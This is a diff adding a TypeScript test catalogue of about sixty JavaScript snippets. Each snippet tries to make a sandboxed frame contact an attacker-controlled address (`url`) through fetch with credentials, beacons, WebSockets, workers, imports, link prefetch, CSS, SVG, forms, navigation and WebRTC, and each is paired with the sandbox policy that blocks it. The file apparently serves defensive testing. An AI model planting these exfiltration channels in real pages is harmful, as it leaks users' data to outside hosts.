@@ -1,0 +1,322 @@
+/** What programs try in order to reach a host, or to say something in a host's name. */
+import type { Attack } from './attack';
+import { elementWays, type ElementWay } from './elementWays';
+
+/** A try: code with `url`, an address of the attacker's, in reach. */
+export interface NetworkAttack extends Attack {
+  readonly code: string;
+}
+
+/** Ways that led to no link before either: the guard of nested windows, or the browser, stood against them. */
+const heldBefore = new Set([
+  'innerHTML with an object that changes',
+  'DOMParser, an entity in XML',
+  'whatever else parses HTML here',
+  'insertHTML of an editor',
+  'XSLT',
+  'a response that is a document',
+  'the element’s constructor',
+  'a replaced exec',
+  'a replaced iterator of arrays',
+  'the guard deleted',
+  'an own policy of Trusted Types',
+  'another default policy of Trusted Types',
+]);
+
+/** Every way to a link that connects to its host as soon as it is in the document. */
+export const linkAttacks: readonly (Attack & ElementWay)[] = elementWays.map((way) => ({
+  ...way,
+  name: `link by ${way.name}`,
+  defends: 'src/frame/boot/elements.ts#link',
+  before: heldBefore.has(way.name) ? 'held' : 'succeeded',
+}));
+
+const element = (rel: string, more = '') => `
+  const link = document.createElement('link');
+  ${more}
+  link.rel = '${rel}';
+  link.href = url;
+  document.head.append(link);`;
+const byGuard = { defends: 'src/frame/boot/elements.ts#link', before: 'succeeded' } as const;
+const byPolicy = {
+  defends: "src/frame/host/document.ts#default-src 'none'",
+  before: 'held',
+} as const;
+const byImages = {
+  defends: 'src/frame/host/document.ts#img-src data: blob:',
+  before: 'held',
+} as const;
+const byScripts = {
+  defends: "src/frame/boot/modules.ts#script-src 'wasm-unsafe-eval' blob:",
+  before: 'held',
+} as const;
+const byConnect = {
+  defends: 'src/frame/host/document.ts#connect-src data: blob:',
+  before: 'held',
+} as const;
+const bySandbox = {
+  defends: "src/frame/host/frame.ts#'sandbox', 'allow-scripts'",
+  before: 'held',
+} as const;
+
+export const otherAttacks: readonly NetworkAttack[] = [
+  { ...byGuard, name: 'rel=dns-prefetch', code: element('dns-prefetch') },
+  { ...byGuard, name: 'rel=prefetch', code: element('prefetch'), before: 'held' },
+  {
+    ...byGuard,
+    name: 'rel=preload',
+    code: element('preload', "link.as = 'image';"),
+    before: 'held',
+  },
+  { ...byGuard, name: 'rel=modulepreload', code: element('modulepreload'), before: 'held' },
+  { ...byGuard, name: 'rel=stylesheet', code: element('stylesheet'), before: 'held' },
+  { ...byGuard, name: 'rel=icon', code: element('icon'), before: 'held' },
+  { ...byGuard, name: 'rel=manifest', code: element('manifest'), before: 'held' },
+  { ...byGuard, name: 'rel=prerender', code: element('prerender'), before: 'held' },
+  {
+    ...byGuard,
+    name: 'rel set afterwards',
+    code: `const link = document.createElement('link'); link.href = url;
+      document.head.append(link); link.relList.add('preconnect');`,
+  },
+  {
+    ...byGuard,
+    name: 'href set afterwards',
+    code: `const link = document.createElement('link'); link.rel = 'preconnect';
+      document.head.append(link); link.href = url;`,
+  },
+  {
+    name: 'lookups of links switched on again',
+    defends: 'src/frame/host/document.ts#x-dns-prefetch-control',
+    before: 'held',
+    code: `const meta = document.createElement('meta');
+      meta.httpEquiv = 'x-dns-prefetch-control'; meta.content = 'on';
+      document.head.append(meta);
+      const a = document.createElement('a'); a.href = url; a.textContent = 'a';
+      document.body.append(a);`,
+  },
+  {
+    ...byImages,
+    name: 'a link in a picture',
+    code: `const image = document.createElement('img');
+      image.src = 'data:image/svg+xml,' + encodeURIComponent(
+        '<svg xmlns="http://www.w3.org/2000/svg"><l:link xmlns:l="http://www.w3.org/1999/xhtml" rel="preconnect" href="' + url + '"/></svg>');
+      document.body.append(image);`,
+  },
+  { ...byConnect, name: 'fetch', code: 'await fetch(url);' },
+  {
+    ...byConnect,
+    name: 'fetch of another kind',
+    code: `await fetch(url, { mode: 'no-cors', keepalive: true, credentials: 'include' });`,
+  },
+  {
+    ...byConnect,
+    name: 'fetchLater',
+    code: 'globalThis.fetchLater(url, { activateAfter: 0 });',
+  },
+  {
+    ...byConnect,
+    name: 'the browser’s own fetch, by a request',
+    code: 'await Reflect.getPrototypeOf(new Request(url)).constructor; await fetch(new Request(url));',
+  },
+  {
+    ...byConnect,
+    name: 'XMLHttpRequest',
+    code: `const request = new XMLHttpRequest(); request.open('GET', url); request.send();`,
+  },
+  { ...byConnect, name: 'WebSocket', code: `new WebSocket(url.replace('https', 'wss'));` },
+  {
+    ...byConnect,
+    name: 'WebSocketStream',
+    code: `new WebSocketStream(url.replace('https', 'wss'));`,
+  },
+  { ...byConnect, name: 'EventSource', code: 'new EventSource(url);' },
+  { ...byConnect, name: 'WebTransport', code: 'await new WebTransport(url).ready;' },
+  { ...byConnect, name: 'a beacon', code: `navigator.sendBeacon(url, 'data');` },
+  {
+    ...byConnect,
+    name: 'a ping of a link',
+    code: `const a = document.createElement('a'); a.href = location.href + '#here'; a.ping = url;
+      document.body.append(a); a.click();`,
+  },
+  {
+    ...byConnect,
+    name: 'fetch in a worker',
+    code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '")'])));`,
+  },
+  {
+    ...byScripts,
+    name: 'importScripts in a worker',
+    code: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + url + '")'])));`,
+  },
+  {
+    ...byConnect,
+    name: 'a socket in a worker',
+    code: `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + url.replace('https', 'wss') + '")'])));`,
+  },
+  {
+    name: 'a worker',
+    defends: 'src/frame/host/document.ts#worker-src blob:',
+    before: 'held',
+    code: 'new Worker(url);',
+  },
+  {
+    name: 'a shared worker',
+    defends: 'src/frame/host/document.ts#worker-src blob:',
+    before: 'held',
+    code: 'new SharedWorker(url);',
+  },
+  { ...byScripts, name: 'a module', code: 'await import(url);' },
+  {
+    ...byScripts,
+    name: 'a module in a module',
+    code: `await import(URL.createObjectURL(new Blob(['import "' + url + '"'], { type: 'text/javascript' })));`,
+  },
+  {
+    ...byScripts,
+    name: 'a script',
+    code: `const script = document.createElement('script'); script.src = url; document.head.append(script);`,
+  },
+  {
+    ...byScripts,
+    name: 'speculation rules',
+    code: `const script = document.createElement('script'); script.type = 'speculationrules';
+      script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] });
+      document.head.append(script);`,
+  },
+  { ...byImages, name: 'an image', code: 'new Image().src = url;' },
+  {
+    ...byImages,
+    name: 'an image by markup',
+    code: `document.body.insertAdjacentHTML('beforeend', '<img src="' + url + '">');`,
+  },
+  {
+    ...byImages,
+    name: 'an image’s srcset',
+    code: `const image = document.createElement('img'); image.srcset = url; document.body.append(image);`,
+  },
+  {
+    ...byImages,
+    name: 'an image that reports its source',
+    code: `const image = document.createElement('img'); image.setAttribute('attributionsrc', url); document.body.append(image);`,
+  },
+  {
+    ...byImages,
+    name: 'a background',
+    code: `document.body.style.backgroundImage = 'url("' + url + '")'; document.body.getBoundingClientRect();`,
+  },
+  {
+    ...byImages,
+    name: 'an image in SVG',
+    code: `document.body.insertAdjacentHTML('beforeend',
+      '<svg><image href="' + url + '"/><use href="' + url + '#a"/><feImage href="' + url + '"/></svg>');`,
+  },
+  {
+    ...byPolicy,
+    name: 'a style sheet’s import',
+    code: `const style = document.createElement('style'); style.textContent = '@import "' + url + '";'; document.head.append(style);`,
+  },
+  {
+    ...byPolicy,
+    name: 'a style sheet of a processing instruction',
+    code: `document.insertBefore(document.createProcessingInstruction('xml-stylesheet', 'type="text/css" href="' + url + '"'), document.documentElement);`,
+  },
+  {
+    ...byPolicy,
+    name: 'a document type from elsewhere',
+    code: `new DOMParser().parseFromString('<!DOCTYPE a SYSTEM "' + url + '"><a/>', 'application/xml');`,
+  },
+  {
+    name: 'a font',
+    defends: 'src/frame/host/document.ts#font-src data:',
+    before: 'held',
+    code: `await new FontFace('own', 'url("' + url + '")').load();`,
+  },
+  {
+    ...byPolicy,
+    name: 'a video',
+    code: `const video = document.createElement('video'); video.src = url; video.poster = url; document.body.append(video); video.load();`,
+  },
+  {
+    ...byPolicy,
+    name: 'a track',
+    code: `document.body.insertAdjacentHTML('beforeend', '<video><track default src="' + url + '"></video>');`,
+  },
+  {
+    name: 'a form',
+    defends: "src/frame/host/document.ts#form-action 'none'",
+    before: 'held',
+    code: `const form = document.createElement('form'); form.action = url; document.body.append(form); form.submit();`,
+  },
+  { ...bySandbox, name: 'a window', code: 'window.open(url);' },
+  {
+    ...bySandbox,
+    name: 'a window, by a link',
+    code: `const a = document.createElement('a'); a.href = url; a.target = '_blank'; document.body.append(a); a.click();`,
+  },
+  { ...bySandbox, name: 'the page’s address', code: 'window.top.location.href = url;' },
+  {
+    ...bySandbox,
+    name: 'the page’s address, by a link',
+    code: `const a = document.createElement('a'); a.href = url; a.target = '_top'; document.body.append(a); a.click();`,
+  },
+  { ...bySandbox, name: 'a service worker', code: 'await navigator.serviceWorker.register(url);' },
+  {
+    ...bySandbox,
+    name: 'a payment method',
+    code: `await new PaymentRequest([{ supportedMethods: url }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
+  },
+  {
+    ...bySandbox,
+    name: 'a login at another site',
+    code: `await navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'a' }] } });`,
+  },
+  {
+    name: 'a peer connection',
+    defends: 'src/frame/boot/stubs.ts#RTCPeerConnection',
+    before: 'held',
+    code: `const peer = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:' + new URL(url).host }] });
+      peer.createDataChannel('a'); await peer.setLocalDescription();`,
+  },
+  {
+    ...byPolicy,
+    name: 'a report of the policy',
+    code: `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy';
+      meta.content = "img-src 'none'; report-uri " + url; document.head.append(meta); new Image().src = 'data:,';`,
+  },
+  {
+    ...bySandbox,
+    name: 'artwork of what plays',
+    code: `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url, sizes: '96x96' }] });
+      navigator.mediaSession.playbackState = 'playing';`,
+  },
+];
+
+/**
+ * A frame that leaves its place. No browser lets a page prevent that the host is looked up and connected to; the
+ * page’s `frame-src` keeps the request from being sent, and the frame has nothing private to put in a name.
+ */
+export const navigationAttacks: readonly NetworkAttack[] = (
+  [
+    ['location', 'location.href = url;'],
+    ['location.replace', 'location.replace(url);'],
+    [
+      'a link to itself',
+      `const a = document.createElement('a'); a.href = url; document.body.append(a); a.click();`,
+    ],
+    [
+      'a refresh',
+      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + url; document.head.append(meta);`,
+    ],
+    ['the navigation interface', 'navigation.navigate(url);'],
+    [
+      'a download',
+      `const a = document.createElement('a'); a.href = url; a.download = 'a'; document.body.append(a); a.click();`,
+    ],
+  ] as const
+).map(([name, code]) => ({
+  name: `navigation by ${name}`,
+  defends: "src/site/config.ts#frame-src 'self'",
+  before: 'held',
+  code,
+}));
